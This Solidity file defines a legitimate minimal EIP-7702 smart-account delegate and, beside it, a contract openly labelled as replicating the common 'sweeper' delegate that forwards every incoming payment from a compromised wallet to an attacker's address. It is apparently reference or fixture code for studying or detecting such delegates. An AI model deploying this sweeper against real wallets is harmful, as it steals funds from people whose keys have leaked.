// SPDX-License-Identifier: MIT
pragma solidity 0.8.28;

import { IERC1271 } from "@openzeppelin/contracts/interfaces/IERC1271.sol";
import { ECDSA } from "@openzeppelin/contracts/utils/cryptography/ECDSA.sol";

/// @notice A minimal smart-account implementation an EOA delegates to with EIP-7702 (as MetaMask's, Trust's or OKX's
/// upgrade does): the account runs batches sent by its own key, and answers EIP-1271 for signatures of its own key
/// (under a delegation, `address(this)` is the EOA).
contract Delegate7702Account is IERC1271 {
    struct Call {
        address target;
        uint256 value;
        bytes data;
    }

    function execute(Call[] calldata calls) external payable {
        require(msg.sender == address(this), "only the account's own key");
        for (uint256 i = 0; i < calls.length; ++i) {
            (bool ok,) = calls[i].target.call{ value: calls[i].value }(calls[i].data);
            require(ok, "call failed");
        }
    }

    function isValidSignature(bytes32 hash, bytes calldata signature) external view override returns (bytes4) {
        (address recovered, ECDSA.RecoverError error,) = ECDSA.tryRecoverCalldata(hash, signature);
        return error == ECDSA.RecoverError.NoError && recovered == address(this) ? this.isValidSignature.selector : bytes4(0xffffffff);
    }

    receive() external payable { }
}

/// @notice What the most common EIP-7702 delegate on chain does (a "sweeper" for wallets whose key leaked): every
/// native payment the account receives is forwarded to whoever controls the sweeper; it answers nothing else.
contract Sweeper7702Delegate {
    address public immutable sweepTo;

    constructor(address sweepTo_) {
        sweepTo = sweepTo_;
    }

    receive() external payable {
        (bool ok,) = sweepTo.call{ value: msg.value }("");
        ok;
    }
}
